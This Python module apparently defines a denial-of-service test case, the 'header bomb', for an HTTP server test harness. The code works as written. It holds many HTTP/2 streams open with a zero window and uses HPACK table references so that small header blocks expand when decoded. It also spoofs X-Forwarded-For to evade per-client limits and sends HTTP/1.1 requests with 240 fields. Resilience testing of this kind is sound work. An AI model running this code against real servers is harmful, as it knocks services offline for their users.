"""Heads that take many times their size once they are decoded, on streams and connections that wait
for a body: the "HTTP/2 bomb", its kin, and plain streams in numbers."""

from lib.attack import HTTP1, HTTP2, TLS1, Attack, Case, scale
from lib.attacker import FORWARDED
from lib.frames import INITIAL_WINDOW, NEWEST, indexed, literal, post, request, stored, text

# A program usually takes 100 streams of a connection at a time. A connection waits for seconds when
# most of so many are refused.
STREAMS = scale(50, 100)
# As many as one client may have connections.
CONNECTIONS = scale(128, 256)
# Heads with hundreds of fields take a debug build long to decode.
FEW = scale(32, 256)
OF_FOUR = 60
# Those of a proxy have higher bounds, as they have many clients.
OF_A_PROXY = 100


def bomb(attacker, connections, first=b"", each=b""):
    """Streams that wait for a body they never get, with a window of nothing, on all connections.
    The first head of each connection has the fields of `first`, which enter the table, and each
    has those of `each`. Then one connection after the other is replaced."""
    head = post(fields=each)

    def begin(at):
        wire = attacker.http2((INITIAL_WINDOW, 0), at=at)
        if wire:
            first_stream, *others = wire.streams(STREAMS)
            heads = [request(first_stream, post(fields=first), ends=False)]
            wire.send(b"".join(heads + [request(stream, head, ends=False) for stream in others]))
            wire.ping()
        return wire

    held = [begin(at) for at in range(connections)]
    for wire in filter(None, held):
        if wire.settled():
            attacker.count("streams", STREAMS)
    while attacker.goes_on():
        for at, wire in enumerate(held):
            if not attacker.goes_on():
                return
            if wire and not wire.is_gone:
                wire.close()
            wire = held[at] = begin(at)
            if wire and wire.settled():
                attacker.count("streams", STREAMS)


def plain(attacker):
    bomb(attacker, CONNECTIONS)


def references(attacker):
    """A field of 3.9 KB that each head refers to four times, by a byte each."""
    bomb(attacker, CONNECTIONS, stored(b"x-large", b"v" * 3_900), indexed(NEWEST) * 4)


def small_fields(attacker):
    """Two hundred fields of a few bytes, by a byte each."""
    names = [b"%c%c" % (97 + number // 26, 97 + number % 26) for number in range(100)]
    first = b"".join(stored(name, b"v") for name in names)
    each = b"".join(indexed(NEWEST + number) for number in range(100))
    bomb(attacker, FEW, first, each * 2)


def crumbs(attacker):
    """180 fields of 60 names, most of them crumbs of a cookie."""
    names = [b"%c%c" % (97 + number // 26, 97 + number % 26) for number in range(59)]
    first = b"".join(stored(name, b"v") for name in names) + stored(b"cookie", b"c=1")
    each = b"".join(indexed(NEWEST + 1 + number) for number in range(59))
    bomb(attacker, FEW, first, each + indexed(NEWEST) * 121)


def four_addresses(attacker):
    bomb(attacker, 4 * OF_FOUR, stored(b"x-large", b"v" * 3_900), indexed(NEWEST) * 4)


def behind_a_proxy(attacker):
    """One client of a trusted proxy, whose connections are not counted as the client's."""
    forwarded = literal(b"x-forwarded-for", FORWARDED)
    bomb(attacker, OF_A_PROXY, forwarded, forwarded)


def over_http1(attacker):
    """Heads of as many fields as there may be, on connections that wait for a body."""
    fields = b"".join(b"f%d: v\r\n" % number for number in range(240))
    head = (b"POST /rpc HTTP/1.1\r\nHost: edge.test\r\nContent-Type: application/json\r\n"
            b"Content-Length: 60000\r\n" + fields + b"\r\n")
    connections = 256

    def begin(at):
        wire = attacker.http1(at)
        if wire and wire.send(head):
            attacker.count("heads")
        return wire

    held = [begin(at) for at in range(connections)]
    while attacker.goes_on():
        for at, wire in enumerate(held):
            if not attacker.goes_on():
                return
            if wire:
                wire.close()
            held[at] = begin(at)


ATTACK = Attack(
    title="header bomb",
    published="CVE-2026-49975 and its kin",
    cases=(
        Case("plain streams", HTTP2, plain, {"streams": CONNECTIONS * STREAMS}),
        Case("a large field, four times", HTTP2, references, {"streams": CONNECTIONS * STREAMS}),
        Case("200 small fields", HTTP2, small_fields, {"streams": FEW * STREAMS}),
        Case("crumbs of cookies", HTTP2, crumbs, {"streams": FEW * STREAMS}),
        Case("four addresses", HTTP2, four_addresses, {"streams": 4 * OF_FOUR * STREAMS},
             addresses=4),
        Case("one client of a proxy", HTTP2, behind_a_proxy, {"streams": OF_A_PROXY * STREAMS},
             is_proxied=True),
        Case("240 fields", HTTP1, over_http1, {"heads": 256}, is_long=True),
        Case("240 fields", TLS1, over_http1, {"heads": 256}),
    ),
)
